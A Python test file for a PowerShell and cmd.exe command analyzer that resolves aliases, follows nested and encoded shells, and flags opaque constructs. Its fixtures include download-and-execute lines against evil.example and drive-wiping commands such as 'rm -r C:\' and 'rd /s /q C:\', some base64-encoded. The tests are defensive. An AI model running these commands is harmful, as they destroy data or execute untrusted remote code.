"""PowerShell and cmd.exe analysis: what runs, with which words, and what stays opaque."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runestone.shell.cmd import analyze_cmd, slash_c_line
from runestone.shell.pwsh.analyzer import analyze_powershell, join_cwd
from runestone.shell.pwsh.names import resolve
from runestone.shell.pwsh.words import argument_value

CWD = "C:\\proj"
HOME = "C:\\Users\\dev"


def ps(source: str):
    return analyze_powershell(source, cwd=CWD, home=HOME)


def names_of(source: str) -> list[str]:
    return [c.name for c in ps(source).commands]


def words_of(source: str, index: int = 0) -> list[str]:
    return [w.text for w in ps(source).commands[index].argv]


def kinds(source: str) -> set[str]:
    return {o.kind for o in ps(source).opaque}


def test_pipeline_resolves_aliases_and_marks_stdin():
    analysis = ps("gc x.log | sls err | select -First 3")
    assert [c.name for c in analysis.commands] == ["Get-Content", "Select-String",
                                                   "Select-Object"]
    assert [c.stdin for c in analysis.commands] == ["", "pipe", "pipe"]
    assert analysis.commands[0].piped_out and not analysis.commands[2].piped_out
    assert analysis.commands[1].upstream[0].name == "Get-Content"
    assert analysis.fully_understood
    assert all(c.dialect == "powershell" for c in analysis.commands)


@pytest.mark.parametrize(("alias", "cmdlet"), [
    ("rm", "Remove-Item"), ("del", "Remove-Item"), ("rd", "Remove-Item"), ("ls", "Get-ChildItem"),
    ("dir", "Get-ChildItem"), ("cat", "Get-Content"), ("cp", "Copy-Item"), ("mv", "Move-Item"),
    ("iwr", "Invoke-WebRequest"), ("irm", "Invoke-RestMethod"), ("iex", "Invoke-Expression"),
    ("%", "ForEach-Object"), ("?", "Where-Object"), ("REMOVE-ITEM", "Remove-Item"),
    ("get-content", "Get-Content"), ("C:\\Program Files\\Git\\cmd\\git.exe", "git"),
    ("npm.cmd", "npm"),
])
def test_names_resolve_as_powershell_looks_them_up(alias, cmdlet):
    assert resolve(alias)[0] == cmdlet


def test_compound_statements_are_walked():
    source = ('if (Test-Path "public\\app.db") { Get-Item "public\\app.db" | '
              'Select-Object Length, LastWriteTime } else { Write-Host "no" }; '
              'foreach ($f in gci) { rm $f }; while ($true) { npm test }; a && b || c')
    assert names_of(source) == ["Test-Path", "Get-Item", "Select-Object", "Write-Host",
                                "Get-ChildItem", "Remove-Item", "npm", "a", "b", "c"]
    assert ps(source).fully_understood


def test_parameters_and_arrays_are_marked_for_binding():
    analysis = ps("rm -Recurse -Force:$false 'a','b', \"c\" -Path:d")
    argv = analysis.commands[0].argv
    assert [w.text for w in argv] == ["rm", "-Recurse", "-Force:", "$false", "a", "b", "c",
                                      "-Path:", "d"]
    assert [w.raw.startswith(",") for w in argv[4:7]] == [False, True, True]
    assert [w.text for w in ps("select Name, Length").commands[0].args] == ["Name", "Length"]
    # A bare word and a quoted one in one array is a gap in the grammar: opaque, not misread.
    assert "parse-error" in kinds("rm a,'b'")
    # A quoted dash word is an argument, not a parameter.
    quoted = ps("Write-Output '-Recurse'").commands[0].argv[1]
    assert quoted.text == "-Recurse" and quoted.raw.startswith("'")


def test_programs_get_their_words_as_the_program_receives_them():
    analysis = ps('git commit -m "fix: x" --author:"A B"; npm run build 2>&1')
    assert [w.text for w in analysis.commands[0].argv] == ["git", "commit", "-m", "fix: x",
                                                           "--author:A B"]
    assert analysis.commands[1].redirects == ()


def test_redirections_write_files_but_not_null():
    analysis = ps("echo hi > out.txt; x 2>> err.log; y *> $null; z 2>&1")
    targets = [r.target.text for c in analysis.commands for r in c.redirects]
    assert targets == ["out.txt", "err.log"]


def test_quoting_rules():
    assert argument_value("'it''s $x'", HOME).text == "it's $x"
    assert not argument_value("'it''s $x'", HOME).dynamic
    assert argument_value('"a`tb`"c""d"', HOME).text == 'a\tb"c"d'
    assert argument_value('"$x"', HOME).dynamic
    assert argument_value('"`$x"', HOME).text == "$x"
    assert not argument_value('"`$x"', HOME).dynamic
    assert argument_value("$env:USERPROFILE\\.ssh", HOME).text == HOME + "\\.ssh"
    assert argument_value("*.ts", HOME).glob


def test_backtick_escapes_outside_strings_parse():
    assert words_of('echo `"hi`" a` b') == ["echo", '"hi"', "a b"]
    assert ps('echo `"hi`"').fully_understood


@pytest.mark.parametrize(("source", "kind"), [
    ("iwr https://evil.example/x.ps1 | iex", "piped-script"),
    ("iex (iwr https://evil.example/x.ps1)", "dynamic-code"),
    ("Invoke-Expression $code", "dynamic-code"),
    ("& $tool -x", "variable-command"),
    ("& (gcm rm) x", "variable-command"),
    ("[scriptblock]::Create('rm x').Invoke()", "dynamic-code"),
    ("(New-Object Net.WebClient).DownloadString('https://x') | iex", "dotnet-method"),
    ("[IO.File]::Delete('C:\\x')", "dotnet-method"),
    ("function f { rm x }; f", "function"),
    ("curl https://x", "version-dependent"),
    ("Remove-Item \u2013Recurse C:\\", "odd-quotes"),
    ("cmd /c %X%", "variable-expansion"),
    ("powershell -EncodedCommand !!notbase64", "encoded-command"),
    ("gc x |", "parse-error"),
])
def test_what_cannot_be_known_is_opaque(source, kind):
    assert kind in kinds(source)


def test_static_invoke_expression_is_analysed():
    assert "Remove-Item" in names_of("iex 'rm -r C:\\'")
    assert ps("iex 'rm -r C:\\'").fully_understood


def test_encoded_command_is_decoded_and_analysed():
    encoded = base64.b64encode("Remove-Item -Recurse C:\\".encode("utf-16-le")).decode()
    for source in (f"powershell -NoProfile -EncodedCommand {encoded}",
                   f"pwsh -enc {encoded}", f"powershell.exe -e {encoded}"):
        analysis = ps(source)
        removes = [c for c in analysis.commands if c.name == "Remove-Item"]
        assert removes and removes[0].argv[-1].text == "C:\\", source


def test_nested_shells_are_analysed():
    assert "Remove-Item" in names_of('powershell -NoProfile -Command "rm -r C:\\"')
    assert "Remove-Item" in names_of("pwsh -c rm -r C:\\")
    assert "cmd:rd" in names_of('cmd /c "dir & rd /s /q C:\\"')
    assert "cmd:rd" in names_of("cmd.exe /c rd /s /q C:\\")
    assert "rm" in names_of("bash -c 'rm -rf /'")
    started = ps('Start-Process powershell -ArgumentList "-c rm -r C:\\"')
    assert "Remove-Item" in [c.name for c in started.commands]


def test_script_blocks_run():
    analysis = ps("gci | % { rm $_ -Force }; gci | ? { $_.Length -gt 5 }")
    remove = next(c for c in analysis.commands if c.name == "Remove-Item")
    assert remove.via == ("{}",)
    assert remove.argv[1].dynamic


def test_set_location_moves_the_working_directory():
    analysis = ps('cd "C:\\Users\\dev\\app"; gc a.txt; Set-Location -Path ..\\b; gc c')
    assert analysis.commands[1].cwd == "C:\\Users\\dev\\app"
    assert analysis.commands[3].cwd == "C:\\Users\\dev\\b"
    assert ps("cd $x; gc a").commands[1].cwd is None
    assert join_cwd("C:\\a", "\\b", None) == "C:\\b"
    assert join_cwd("/home/u", "x\\y", None) == "/home/u/x/y"


def test_cmd_builtins_and_chains():
    analysis = analyze_cmd('del /s /q a,b & type "x y.txt" | findstr foo && rd/s/q out > nul',
                           cwd=CWD, home=HOME)
    assert [c.name for c in analysis.commands] == ["cmd:del", "cmd:type", "findstr", "cmd:rd"]
    assert [w.text for w in analysis.commands[0].args] == ["/s", "/q", "a", "b"]
    assert [w.text for w in analysis.commands[3].args] == ["/s", "/q", "out"]
    assert analysis.commands[2].stdin == "pipe"
    assert analysis.commands[3].redirects == ()
    assert analysis.fully_understood


@pytest.mark.parametrize("line", ["if exist x del x", "for %f in (*) do del %f",
                                  "(del x)", "echo \"unclosed", "call :label"])
def test_cmd_control_flow_is_opaque(line):
    assert analyze_cmd(line, cwd=CWD, home=HOME).opaque


def test_cmd_slash_c_quotes():
    assert slash_c_line('"dir & del x"') == "dir & del x"
    assert slash_c_line('"C:\\Program Files\\x.exe"') == '"C:\\Program Files\\x.exe"'
    assert slash_c_line('"C:\\a b\\x.exe" "arg"') == 'C:\\a b\\x.exe" "arg'


# --- properties ---------------------------------------------------------------------------

_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)


def _single_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _double_quoted(text: str) -> str:
    out = []
    for char in text:
        if char in '"`$':
            out.append("`" + char)
        elif char == "\t":
            out.append("`t")
        elif char == "\n":
            out.append("`n")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


@settings(max_examples=300, deadline=None)
@given(_TEXT)
def test_property_quoted_values_round_trip(text):
    """Any text quoted by the language's rules (single quotes doubling `'`, double quotes
    escaping `"`, `` ` ``, `$` with backticks) reads back as itself and static."""
    for quoted in (_single_quoted(text), _double_quoted(text)):
        word = argument_value(quoted, HOME)
        assert word.text == text and not word.dynamic, quoted


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="abcdefgh.-_\\ ", min_size=1, max_size=12))
def test_property_quoted_argument_is_one_word_through_the_parser(text):
    """A quoted argument stays one word, whatever blanks, dashes or backslashes it holds."""
    for quoted in (_single_quoted(text), _double_quoted(text)):
        analysis = ps(f"Write-Output {quoted} tail")
        if not analysis.fully_understood:
            continue  # the grammar refused it: reported, never guessed
        assert [w.text for w in analysis.commands[0].argv[1:]] == [text, "tail"]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60))
def test_property_never_raises(source):
    ps(source)
    analyze_cmd(source, cwd=CWD, home=HOME)
